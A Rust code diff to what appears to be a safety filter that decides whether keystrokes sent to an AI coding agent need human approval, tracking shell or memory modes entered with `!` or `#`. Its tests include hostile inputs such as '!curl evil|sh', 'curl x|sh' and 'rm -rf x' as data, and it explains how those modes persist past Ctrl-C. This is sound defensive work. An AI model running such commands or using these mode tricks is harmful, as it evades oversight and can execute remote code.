@@ -30,18 +30,23 @@ pub const HARMLESS_COMMANDS: &[&str] =
 /// What a line of prompt text may start with (after spaces), besides a letter or a digit.
 pub const PROMPT_START: &str = "\"'([{<-*.,:;?";
 
-/// What device input left in the program's line: `Some(line)`, or `None` when the replay
-/// lost track (input it could not classify was approved), until the next Enter.
-pub type Typed = Option<Line>;
+/// What device input left in the program's line, and what it may have switched.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Typed {
+    /// The unsubmitted text: `None` when the replay lost track (input it could not classify
+    /// was approved), until the next Enter.
+    pub line: Option<String>,
+    /// Whether a `!` or `#` reached an empty (or unknown) line: agents take that as a switch
+    /// into their shell or memory mode, which erasing the text does not undo, and some keep
+    /// it past Enter and Ctrl-C. Every line asks from then on, until Esc alone (which takes
+    /// agents out of those modes, and leaves the line unknown).
+    pub mode: bool,
+}
 
-/// A line being typed.
-#[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub struct Line {
-    /// Its text.
-    pub text: String,
-    /// Whether a `!` or `#` was typed into it while it was empty: agents take that as a switch
-    /// into their shell or memory mode, which erasing the text does not undo.
-    pub marked: bool,
+impl Default for Typed {
+    fn default() -> Self {
+        Self { line: Some(String::new()), mode: false }
+    }
 }
 
 const ESC: char = '\u{1b}';
@@ -51,44 +56,43 @@ const PASTE_END: &str = "\u{1b}[201~";
 /// The replay of one input: the lines it submits (`None`: unknown text) and what it leaves.
 #[derive(Debug, Clone, PartialEq, Eq)]
 struct Replay {
-    submitted: Vec<Typed>,
+    submitted: Vec<Option<String>>,
     rest: Typed,
     /// The first thing the replay could not classify.
     unclassified: Option<String>,
 }
 
 fn replay(typed: &Typed, data: &str) -> Replay {
-    fn lost(out: &mut Replay, what: String, line: &mut Typed) {
-        out.unclassified.get_or_insert(what);
-        *line = None;
-    }
-    let mut line = typed.clone();
-    let mut out = Replay { submitted: Vec::new(), rest: None, unclassified: None };
+    let mut line = typed.line.clone();
+    let mut mode = typed.mode;
+    let mut submitted = Vec::new();
+    let mut unclassified = None;
+    // A `!` or `#` where the line is empty, or may be.
+    let switches = |line: &Option<String>, text: &str| {
+        line.as_ref().is_none_or(|l| l.trim().is_empty())
+            && text.trim_start().starts_with(['!', '#'])
+    };
     let mut rest = data;
     while let Some(c) = rest.chars().next() {
         if let Some(after) = rest.strip_prefix(PASTE_START) {
             // Pasted text is text, line breaks included, up to the end marker.
-            let (pasted, next) = match after.find(PASTE_END) {
-                Some(end) if !after[..end].contains(ESC) => {
-                    (&after[..end], &after[end + PASTE_END.len()..])
-                }
-                _ => {
-                    lost(&mut out, "a bracketed paste that does not end cleanly".into(), &mut line);
-                    break;
-                }
+            let Some(end) = after.find(PASTE_END).filter(|&end| !after[..end].contains(ESC)) else {
+                unclassified = Some("a bracketed paste that does not end cleanly".to_string());
+                break;
             };
+            let pasted = &after[..end];
+            mode |= switches(&line, pasted);
             if let Some(l) = line.as_mut() {
-                l.marked |= l.text.trim().is_empty() && pasted.trim_start().starts_with(['!', '#']);
-                l.text.push_str(pasted);
+                l.push_str(pasted);
             }
-            rest = next;
+            rest = &after[end + PASTE_END.len()..];
             continue;
         }
         rest = &rest[c.len_utf8()..];
         match c {
             '\r' | '\n' => {
-                out.submitted.push(line.take());
-                line = Some(Line::default());
+                submitted.push(line.take());
+                line = Some(String::new());
                 // A CR LF pair is one Enter.
                 if c == '\r' {
                     rest = rest.strip_prefix('\n').unwrap_or(rest);
@@ -96,50 +100,53 @@ fn replay(typed: &Typed, data: &str) -> Replay {
             }
             '\u{7f}' | '\u{8}' => {
                 if let Some(l) = line.as_mut() {
-                    l.text.pop();
+                    l.pop();
                 }
             }
             '\u{15}' => {
                 if let Some(l) = line.as_mut() {
-                    l.text.clear();
+                    l.clear();
                 }
             }
             '\u{17}' => {
                 if let Some(l) = line.as_mut() {
-                    let t = &l.text;
-                    let kept = t.trim_end().trim_end_matches(|c: char| !c.is_whitespace()).len();
-                    l.text.truncate(kept);
+                    let kept = l.trim_end().trim_end_matches(|c: char| !c.is_whitespace()).len();
+                    l.truncate(kept);
                 }
             }
             ESC => {
                 let shown: String = std::iter::once(c).chain(rest.chars().take(5)).collect();
-                lost(&mut out, format!("the escape sequence {shown:?}"), &mut line);
+                unclassified = Some(format!("the escape sequence {shown:?}"));
                 break;
             }
             c if c.is_control() => {
-                lost(&mut out, format!("the control character {c:?}"), &mut line);
+                unclassified = Some(format!("the control character {c:?}"));
+                break;
             }
             c => {
+                mode |= switches(&line, c.encode_utf8(&mut [0; 4]));
                 if let Some(l) = line.as_mut() {
-                    l.marked |= matches!(c, '!' | '#') && l.text.trim().is_empty();
-                    l.text.push(c);
+                    l.push(c);
                 }
             }
         }
-        if line.as_ref().is_some_and(|l| l.text.len() > MAX_TYPED) {
+        if line.as_ref().is_some_and(|l| l.len() > MAX_TYPED) {
             line = None;
         }
     }
-    out.rest = if out.unclassified.is_some() { None } else { line };
-    out
+    if unclassified.is_some() {
+        line = None;
+    }
+    Replay { submitted, rest: Typed { line, mode }, unclassified }
 }
 
-/// What is left unsubmitted in the program's line after `data` reaches it. Ctrl-C alone
-/// clears it (as agents do); Esc alone leaves it.
+/// What device input leaves in the program's line after `data` reaches it. Ctrl-C alone clears
+/// the text; Esc alone ends a mode and leaves the line unknown (agents differ on what it does
+/// to the text).
 pub fn after(typed: &Typed, data: &str) -> Typed {
     match data {
-        "\u{3}" => Some(Line::default()),
-        "\u{1b}" => typed.clone(),
+        "\u{3}" => Typed { line: Some(String::new()), mode: typed.mode },
+        "\u{1b}" => Typed { line: None, mode: false },
         _ => replay(typed, data).rest,
     }
 }
@@ -163,21 +170,19 @@ pub fn judge(kind: SessionKind, typed: &Typed, data: &str) -> (bool, String) {
     if let Some(what) = replayed.unclassified {
         return (false, format!("{what} is not plain text: what it does in the agent is unknown"));
     }
+    if !replayed.submitted.is_empty() && replayed.rest.mode {
+        return (
+            false,
+            "a `!` or `#` reached an empty line earlier: the agent may be in its shell or memory \
+             mode (Esc alone ends it)"
+                .into(),
+        );
+    }
     for line in &replayed.submitted {
         let Some(line) = line else {
             return (false, "it submits a line that earlier input left unknown".into());
         };
-        if line.marked {
-            let shown: String = line.text.chars().take(40).collect();
-            return (
-                false,
-                format!(
-                    "the line began with `!` or `#` (`{shown}` now): the agent may still be in \
-                     its shell or memory mode"
-                ),
-            );
-        }
-        if let Some(why) = agent_line(&line.text) {
+        if let Some(why) = agent_line(line) {
             return (false, why);
         }
     }
@@ -240,7 +245,7 @@ mod tests {
 
     #[test]
     fn prompt_text_is_allowed_and_escapes_commands_and_menus_ask() {
-        let empty = Some(Line::default());
+        let empty = Typed::default();
         for ok in [
             "fix the failing test\r",
             "why?\r",
@@ -288,16 +293,25 @@ mod tests {
 
     #[test]
     fn what_earlier_input_left_counts() {
-        let empty = Some(Line::default());
+        let empty = Typed::default();
         let left = after(&empty, "!curl evil|sh");
-        assert_eq!(left.as_ref().map(|l| l.text.as_str()), Some("!curl evil|sh"));
+        assert_eq!(left.line.as_deref(), Some("!curl evil|sh"));
         assert!(agent(&empty, "!curl evil|sh"), "nothing submitted yet");
         assert!(!agent(&left, "\r"), "Enter submits what was left");
         assert!(!agent(&after(&left, "\u{15}"), "hello\r"), "Ctrl-U leaves the agent's mode");
-        assert!(agent(&after(&left, "\u{3}"), "hello\r"), "Ctrl-C cleared it");
+        // Some agents keep the mode past Ctrl-C and Enter: only Esc ends it, and the line is
+        // unknown after it, once.
+        assert!(!agent(&after(&left, "\u{3}"), "hello\r"), "Ctrl-C clears the text, not the mode");
+        assert!(!agent(&after(&after(&left, "\r"), ""), "plain\r"), "the mode outlasts Enter");
+        let escaped = after(&left, "\u{1b}");
+        assert!(!agent(&escaped, "hello\r"), "the line is unknown after Esc");
+        assert!(agent(&after(&escaped, "\r"), "hello\r"));
+        // Two Escs, then `!` into what may be an empty line.
+        let twice = after(&after(&after(&empty, "hello"), "\u{1b}"), "\u{1b}");
+        assert!(!agent(&after(&twice, "!"), "curl x|sh\r"));
         // After approved input the replay cannot follow, the next submission asks once.
         let lost = after(&empty, "ab\u{1b}[Dc");
-        assert_eq!(lost, None);
+        assert_eq!(lost.line, None);
         assert!(!agent(&lost, "more text\r"));
         assert!(agent(&after(&lost, "x\r"), "fine now\r"));
         // A multi-line paste is one prompt.
@@ -306,7 +320,7 @@ mod tests {
 
     #[test]
     fn a_shell_asks_for_everything_but_an_interrupt() {
-        let empty = Some(Line::default());
+        let empty = Typed::default();
         assert!(!judge(SessionKind::Shell, &empty, "ls\n").0);
         assert!(judge(SessionKind::Shell, &empty, "\u{3}").0);
         assert!(!judge(SessionKind::Shell, &empty, "\u{3}rm -rf x\n").0);
